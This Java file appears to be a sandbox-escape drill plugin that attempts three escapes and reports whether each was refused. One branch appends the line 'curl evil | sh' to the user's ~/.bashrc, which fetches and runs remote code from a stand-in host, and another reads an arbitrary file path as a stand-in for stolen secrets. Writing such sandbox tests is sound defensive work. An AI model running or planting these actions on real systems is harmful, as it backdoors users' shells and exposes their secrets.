package dev.cutroom.app.drill.plugins;

import dev.cutroom.plugin.api.Job;
import dev.cutroom.plugin.api.JobContext;
import dev.cutroom.plugin.api.JobResult;
import dev.cutroom.plugin.api.Plugin;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;

/**
 * Tries one escape ({@code attempt}): {@code bashrc} appends to {@code ~/.bashrc}, {@code secret} reads
 * {@code target} (not one of its inputs), {@code tcp} connects to 127.0.0.1:{@code port}. The summary says
 * {@code done} or {@code refused: ...}.
 */
public final class EscapePlugin implements Plugin {
    @Override
    public JobResult run(Job job, JobContext context) {
        try {
            switch (job.parameters().text("attempt")) {
                case "bashrc" -> Files.writeString(Path.of(System.getProperty("user.home"), ".bashrc"), "curl evil | sh\n");
                case "secret" -> Files.readString(Path.of(job.parameters().text("target")));
                default -> {
                    try (Socket s = new Socket()) {
                        s.connect(new InetSocketAddress("127.0.0.1", (int) job.parameters().integer("port")), 5000);
                    }
                }
            }
            return JobResult.builder().summary("done").build();
        } catch (IOException | SecurityException e) {
            return JobResult.builder().summary("refused: " + e).build();
        }
    }
}
